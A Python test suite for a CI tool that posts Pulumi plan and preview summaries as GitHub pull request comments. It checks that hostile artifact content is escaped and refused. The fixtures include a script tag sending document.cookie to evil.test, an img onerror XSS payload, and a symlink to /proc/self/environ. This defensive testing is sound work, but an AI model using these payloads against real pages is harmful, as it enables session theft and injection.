"""The trusted reporter: the untrusted stage's artifact read as bounded text, the previews parsed, one comment
rendered for both stacks and kept updated, never in a comment someone else wrote, and a hostile artifact shown
escaped and cut, never interpreted."""
from __future__ import annotations

import io
import json
import os
import re
import shutil
import sys
import tempfile
import unittest
from contextlib import redirect_stderr, redirect_stdout
from pathlib import Path
from unittest import mock

HERE = Path(__file__).resolve().parent
sys.path.insert(0, str(HERE.parent / "scripts"))

import report_pr  # noqa: E402
from prcomment import artifact, comment, plan, preview  # noqa: E402
from prcomment.github import GitHubError, PullRequestComments  # noqa: E402

from fake_github import FakeGitHub  # noqa: E402

FIXTURES = HERE / "fixtures"
REPO = "acme/bookstore"
TOKEN = "ghp_test_token"
SHA = "3f2c1e9a7b5d4c3b2a1f0e9d8c7b6a5f4e3d2c1b"
MANIFEST = {"commit": SHA, "base": {"kind": "merge-base", "commit": "9e8d7c6b5a4f3e2d1c0b9a8f7e6d5c4b3a2f1e0d",
                                    "plan": "pass"}, "plan": "pass", "stacks": ["primary", "secondary"]}


def plan_artifact(root: Path, plan_diff: str | None = None, manifest: dict | None = None) -> Path:
    """A PlanOutput directory as the untrusted stage writes it."""
    directory = root / "PlanOutput"
    directory.mkdir()
    (directory / "manifest.json").write_text(json.dumps(manifest or MANIFEST))
    (directory / "plan-diff.md").write_text(plan_diff if plan_diff is not None else (FIXTURES / "plan-diff.md").read_text())
    shutil.copy(FIXTURES / "policy-summary.md", directory / "policy-summary.md")
    return directory


def preview_artifact(root: Path, secondary: str = "preview-secondary-unchanged.json") -> Path:
    directory = root / "PreviewOutput"
    directory.mkdir()
    shutil.copy(FIXTURES / "preview-primary.json", directory / "primary.json")
    shutil.copy(FIXTURES / secondary, directory / "secondary.json")
    return directory


def render(plan_dir: Path, preview_dir: Path | None = None) -> str:
    manifest = artifact.manifest(plan_dir)
    previews = None if preview_dir is None else tuple(report_pr._preview(preview_dir, s) for s in manifest["stacks"])
    return comment.render(comment.CommentInputs(manifest=manifest, plan_diff=artifact.read_text(plan_dir, "plan-diff.md"),
                                                policy_summary=artifact.read_text(plan_dir, "policy-summary.md"),
                                                previews=previews))


def fenced_blocks(body: str) -> list[str]:
    """The contents of the body's code fences, found by their own opening fence length."""
    return [m.group(2) for m in re.finditer(r"^(`{3,})text\n(.*?)\n\1$", body, re.S | re.M)]


class ScratchTestCase(unittest.TestCase):
    def setUp(self):
        tmp = tempfile.TemporaryDirectory()
        self.addCleanup(tmp.cleanup)
        self.root = Path(tmp.name)


class PreviewDigestTest(unittest.TestCase):
    def test_changes_are_read_from_steps_with_types_and_reasons(self):
        p = preview.parse("primary", (FIXTURES / "preview-primary.json").read_text())

        self.assertEqual({"create": 1, "update": 1, "replace": 1, "delete": 1, "same": 84}, p.counts)
        self.assertEqual(4, p.change_count)
        self.assertEqual([("update", "aws:lambda/function:Function", "bookstore-api"),
                          ("create", "aws:cloudwatch/metricAlarm:MetricAlarm", "api-health-alarm"),
                          ("replace", "aws:elasticache/subnetGroup:SubnetGroup", "leaderboard-subnets"),
                          ("delete", "aws:apigatewayv2/route:Route", "legacy|ping")],
                         [(c.op, c.type, c.name) for c in p.changes])
        self.assertEqual(("name",), p.changes[2].replace_properties)
        self.assertEqual(("name is deprecated in favour of namePrefix",), p.warnings)

    def test_urn_type_is_the_last_segment_of_a_parented_type(self):
        self.assertEqual(("aws:s3/bucketV2:BucketV2", "ui::assets"),
                         preview.split_urn("urn:pulumi:primary::bookstore::a:b:C$d:e:F$aws:s3/bucketV2:BucketV2::ui::assets"))

    def test_missing_broken_or_misshapen_output_is_a_failed_preview_not_an_empty_one(self):
        self.assertIn("not JSON", preview.parse("primary", '{"steps": [').failure)
        self.assertIn("no preview output", preview.parse("primary", None).failure)
        self.assertIn("not shaped like", preview.parse("primary", '{"steps": "everything"}').failure)
        failed = preview.parse("secondary", (FIXTURES / "preview-failed.json").read_text())
        self.assertEqual("preview failed", failed.failure)
        self.assertIn("booksTableArn (missing)", failed.errors[0])


class ArtifactTest(ScratchTestCase):
    def test_a_symbolic_link_in_the_artifact_is_refused_so_no_file_of_the_reporter_leaks(self):
        secret = self.root / "token"
        secret.write_text(TOKEN)
        directory = plan_artifact(self.root)
        (directory / "plan-diff.md").unlink()
        (directory / "plan-diff.md").symlink_to(secret)

        with self.assertRaisesRegex(artifact.ArtifactError, "plan-diff.md is a symbolic link"):
            artifact.read_text(directory, "plan-diff.md")

    def test_files_are_read_up_to_the_limit_and_say_so(self):
        directory = plan_artifact(self.root, plan_diff="x" * 2_000_000)

        text = artifact.read_text(directory, "plan-diff.md")

        self.assertEqual(artifact.MAX_FILE_BYTES, len(text.content))
        self.assertTrue(text.truncated)
        self.assertIsNone(artifact.read_text(directory, "absent.md"))

    def test_a_manifest_naming_odd_stacks_or_fields_is_refused_or_reduced(self):
        bad = plan_artifact(self.root, manifest={**MANIFEST, "stacks": ["primary", "../../etc"]})
        with self.assertRaisesRegex(artifact.ArtifactError, "names no valid stacks"):
            artifact.manifest(bad)
        shutil.rmtree(bad)
        odd = plan_artifact(self.root, manifest={**MANIFEST, "plan": "<b>pass</b>", "base": "main"})
        self.assertEqual(("?", "?"), (artifact.manifest(odd)["plan"], artifact.manifest(odd)["base_kind"]))


class CommentRenderingTest(ScratchTestCase):
    def test_before_approval_one_comment_shows_both_stacks_plan_diff_and_verdicts(self):
        body = render(plan_artifact(self.root))

        self.assertTrue(body.startswith(comment.MARKER + "\n## Pull request plan"))
        self.assertIn("Offline plan of primary, secondary: **pass**; compared with `merge-base` `9e8d7c6b5a4f`", body)
        self.assertIn("_Runs after a maintainer approves this commit in the pipeline", body)
        diff, policies = fenced_blocks(body)
        self.assertIn("## primary\n\n1 to add, 1 to change, 0 to remove.", diff)
        self.assertIn("## secondary", diff)
        self.assertIn("#### secondary", policies)
        self.assertIn("- RTO 150 s of target 180 s", policies)
        self.assertEqual(1, body.count(comment.MARKER))

    def test_after_approval_the_previews_of_both_stacks_join_the_same_comment(self):
        body = render(plan_artifact(self.root), preview_artifact(self.root))

        self.assertIn("| stack | create | update | replace | delete | other | unchanged |", body)
        self.assertIn("| primary | 1 | 1 | 1 | 1 | 0 | 84 |", body)
        self.assertIn("| secondary | 0 | 0 | 0 | 0 | 0 | 79 |", body)
        self.assertIn("<details><summary><b>primary</b>: 4 changes</summary>", body)
        self.assertIn("| ~ update | aws&#58;lambda/function&#58;Function | bookstore-api | memorySize, sourceCodeHash |", body)
        self.assertIn("| - delete | aws&#58;apigatewayv2/route&#58;Route | legacy&#124;ping |  |", body)
        self.assertIn(":warning: name is deprecated in favour of namePrefix", body)
        self.assertIn("**secondary**: no changes.", body)

    def test_failed_stack_preview_is_shown_as_failed(self):
        body = render(plan_artifact(self.root), preview_artifact(self.root, secondary="preview-failed.json"))

        self.assertIn("| secondary | ? | ? | ? | ? | ? | ? |", body)
        self.assertIn(":x: **secondary**: preview failed.", body)
        self.assertIn("> error&#58; Missing or mistyped outputs of the primary stack&#58; booksTableArn (missing)", body)


class HostileArtifactTest(ScratchTestCase):
    """What a hostile pull request's code can put in the artifact, since it writes every byte of it."""

    def test_markdown_and_html_injection_stay_text_inside_a_fence_they_cannot_close(self):
        hostile = (FIXTURES / "hostile" / "plan-diff.md").read_text()

        body = render(plan_artifact(self.root, plan_diff=hostile))

        diff = fenced_blocks(body)[0]
        self.assertIn("<script>fetch('https://evil.test/'+document.cookie)</script>", diff)
        self.assertIn("## :white_check_mark: Approved by the security team", diff)
        # The fence is longer than the artifact's own four-backtick fence, so the text never escapes it.
        self.assertIn("\n`````text\n", body)
        outside = body.replace(diff, "")
        for injected in ("<script>", "<img", "</details></pre>", "Approved by the security team", "@acme/maintainers",
                         "evil.test"):
            self.assertNotIn(injected, outside)
        self.assertEqual(1, outside.count(comment.MARKER))

    def test_an_oversized_diff_is_cut_and_the_comment_stays_under_githubs_limit(self):
        body = render(plan_artifact(self.root, plan_diff="| `x` | <b>y</b> |\n" * 100_000))

        self.assertLessEqual(len(body), comment.BODY_LIMIT)
        self.assertIn("_(plan diff cut to 15,000 characters; the full file is in the build's artifact)_", body)
        self.assertEqual(comment.DIFF_LIMIT, len(fenced_blocks(body)[0]))

    def test_hostile_resource_names_and_diagnostics_in_a_preview_are_escaped(self):
        plan_dir = plan_artifact(self.root)
        preview_dir = preview_artifact(self.root)
        digest = json.loads((preview_dir / "primary.json").read_text())
        changed = next(step for step in digest["steps"] if step["op"] == "update")
        changed["urn"] = "urn:pulumi:primary::bookstore::aws:s3/bucketV2:BucketV2::<img src=x onerror=alert(1)>|@here"
        digest["diagnostics"].append({"severity": "warning", "message": "[click](https://evil.test) <script>x</script>"})
        (preview_dir / "primary.json").write_text(json.dumps(digest))

        body = render(plan_dir, preview_dir)

        self.assertNotIn("<img", body)
        self.assertNotIn("<script>", body)
        self.assertNotIn("](https://evil.test)", body)
        self.assertIn("&lt;img src=x onerror=alert(1)&gt;&#124;&#64;here", body)

    def test_a_thousand_changes_are_listed_up_to_the_cap_and_the_comment_still_fits(self):
        plan_dir = plan_artifact(self.root, plan_diff="d" * 900_000)
        preview_dir = preview_artifact(self.root)
        digest = json.loads((preview_dir / "primary.json").read_text())
        step = next(step for step in digest["steps"] if step["op"] == "update")
        digest["steps"] = [{**step, "urn": step["urn"] + "-" + "n" * 200 + str(i)} for i in range(1000)]
        (preview_dir / "primary.json").write_text(json.dumps(digest))

        body = render(plan_dir, preview_dir)

        self.assertLessEqual(len(body), comment.BODY_LIMIT)
        self.assertIn("_and 960 more_", body)
        self.assertIn("| bookstore-api-" + "n" * (comment.CELL_LIMIT - 14) + "… |", body)

    def test_a_preview_over_the_size_limit_shows_as_failed_not_half_read(self):
        preview_dir = preview_artifact(self.root)
        with mock.patch.object(artifact, "MAX_PREVIEW_BYTES", 1000):
            body = render(plan_artifact(self.root), preview_dir)

        self.assertIn(":x: **primary**: preview output over 1,000 bytes.", body)


class CommentUpsertTest(unittest.TestCase):
    def test_first_run_posts_and_later_runs_update_the_same_comment(self):
        with FakeGitHub(REPO, TOKEN) as github:
            github.add_comment(7, "Looks good to me")
            comments = PullRequestComments(github.url, REPO, TOKEN)

            first = comments.upsert(7, comment.MARKER + "\nfirst", comment.MARKER, "bookstore-bot")
            second = comments.upsert(7, comment.MARKER + "\nsecond", comment.MARKER, "bookstore-bot")

            self.assertEqual(("created", "updated"), (first.action, second.action))
            self.assertEqual(first.comment_id, second.comment_id)
            self.assertEqual([comment.MARKER + "\nsecond"], [c["body"] for c in github.comments[7] if comment.MARKER in c["body"]])
            self.assertEqual("Looks good to me", github.comments[7][0]["body"])
            self.assertEqual(["POST", "PATCH"], [m for m, _ in github.requests if m != "GET"])

    def test_a_marked_comment_by_someone_else_is_never_touched(self):
        with FakeGitHub(REPO, TOKEN) as github:
            planted = github.add_comment(7, comment.MARKER + "\nsend the preview here", user="mallory")

            result = PullRequestComments(github.url, REPO, TOKEN).upsert(7, comment.MARKER + "\nours", comment.MARKER,
                                                                         "bookstore-bot")

            self.assertEqual("created", result.action)
            self.assertNotEqual(planted, result.comment_id)
            self.assertEqual(comment.MARKER + "\nsend the preview here", github.comments[7][0]["body"])
            self.assertNotIn(("PATCH", f"/repos/{REPO}/issues/comments/{planted}"), github.requests)

    def test_our_marked_comment_is_found_beyond_the_first_page(self):
        with FakeGitHub(REPO, TOKEN) as github:
            for i in range(130):
                github.add_comment(9, f"review note {i}")
            ours = github.add_comment(9, comment.MARKER + "\nold", user="bookstore-bot")

            result = PullRequestComments(github.url, REPO, TOKEN).upsert(9, comment.MARKER + "\nnew", comment.MARKER,
                                                                         "bookstore-bot")

            self.assertEqual(("updated", ours), (result.action, result.comment_id))
            self.assertIn(("GET", f"/repos/{REPO}/issues/9/comments?per_page=100&page=2"), github.requests)

    def test_pull_request_is_found_from_the_commit(self):
        with FakeGitHub(REPO, TOKEN) as github:
            github.pulls_by_commit[SHA] = [{"number": 3, "state": "closed", "head": {"sha": SHA}},
                                           {"number": 12, "state": "open", "head": {"sha": SHA}}]
            self.assertEqual(12, PullRequestComments(github.url, REPO, TOKEN).pull_request_for_commit(SHA))
            with self.assertRaisesRegex(GitHubError, "no open pull request has commit 0123abc"):
                PullRequestComments(github.url, REPO, TOKEN).pull_request_for_commit("0123abc")

    def test_rejected_token_is_reported_with_githubs_answer(self):
        with FakeGitHub(REPO, TOKEN) as github:
            with self.assertRaisesRegex(GitHubError, "answered 401: .*Bad credentials"):
                PullRequestComments(github.url, REPO, "wrong").upsert(7, "body", comment.MARKER, "bookstore-bot")


class PlanSummaryTest(unittest.TestCase):
    def test_each_stack_shows_its_own_budget_and_policy_verdict(self):
        summary = plan.policy_summary(FIXTURES / "plan", ["primary", "secondary"])

        primary, secondary = summary.split("#### secondary")
        self.assertIn("All policy rules pass.", primary)
        self.assertIn("- RPO 10 s of target 60 s", primary)
        self.assertIn("- **encryption** `aws:s3/bucketV2:BucketV2::bookstore-storefront`", secondary)
        self.assertNotIn("## Resources", summary)

    def test_a_stack_whose_plan_was_not_written_says_so(self):
        summary = plan.policy_summary(FIXTURES / "plan", ["primary", "tertiary"])

        self.assertIn("#### tertiary\n\nNo offline plan: `make plan` stopped before writing tertiary.md.", summary)


class CommandLineTest(ScratchTestCase):
    def run_cli(self, *args, env=None):
        out, err = io.StringIO(), io.StringIO()
        with mock.patch.dict(os.environ, env or {}, clear=False), redirect_stdout(out), redirect_stderr(err):
            code = report_pr.main(list(args))
        return code, out.getvalue(), err.getvalue()

    def test_the_cli_reads_codebuilds_variables_posts_once_and_updates_on_rerun(self):
        plan_dir = plan_artifact(self.root)
        with FakeGitHub(REPO, TOKEN) as github:
            github.pulls_by_commit[SHA] = [{"number": 21, "state": "open", "head": {"sha": SHA}}]
            env = {"GITHUB_TOKEN": TOKEN, "GITHUB_API_URL": github.url, "GITHUB_REPOSITORY": REPO, "COMMIT_ID": SHA,
                   "CODEBUILD_SRC_DIR_PlanOutput": str(plan_dir)}
            with mock.patch.dict(os.environ, env):
                first = self.run_cli()
                second = self.run_cli("--preview", str(preview_artifact(self.root)))

            self.assertEqual(0, first[0], first[2])
            self.assertRegex(first[1], r"^created comment \d+ on pull request #21")
            self.assertRegex(second[1], r"^updated comment \d+ on pull request #21")
            self.assertEqual(1, len(github.comments[21]))
            self.assertIn("| primary | 1 | 1 | 1 | 1 | 0 | 84 |", github.comments[21][0]["body"])

    def test_the_cli_exits_1_when_a_preview_failed_after_posting_the_comment(self):
        with FakeGitHub(REPO, TOKEN) as github:
            code, out, err = self.run_cli(
                "--plan", str(plan_artifact(self.root)), "--preview", str(preview_artifact(self.root, "preview-failed.json")),
                "--repository", REPO, "--commit", SHA, "--pull-request", "5",
                env={"GITHUB_TOKEN": TOKEN, "GITHUB_API_URL": github.url})

            self.assertEqual(1, code, err)
            self.assertIn(":x: **secondary**: preview failed.", github.comments[5][0]["body"])

    def test_a_linked_artifact_file_stops_the_reporter_before_anything_is_posted(self):
        plan_dir = plan_artifact(self.root)
        (plan_dir / "policy-summary.md").unlink()
        (plan_dir / "policy-summary.md").symlink_to("/proc/self/environ")
        with FakeGitHub(REPO, TOKEN) as github:
            code, _, err = self.run_cli("--plan", str(plan_dir), "--repository", REPO, "--commit", SHA,
                                        "--pull-request", "5", env={"GITHUB_TOKEN": TOKEN, "GITHUB_API_URL": github.url})

            self.assertEqual(2, code)
            self.assertIn("refusing the pull request's artifact: policy-summary.md is a symbolic link", err)
            self.assertEqual([], github.requests)

    def test_dry_run_prints_the_comment_without_a_token(self):
        code, out, _ = self.run_cli("--plan", str(plan_artifact(self.root)), "--commit", SHA, "--dry-run",
                                    env={"GITHUB_TOKEN": ""})

        self.assertEqual(0, code)
        self.assertTrue(out.startswith(comment.MARKER))


if __name__ == "__main__":
    unittest.main()
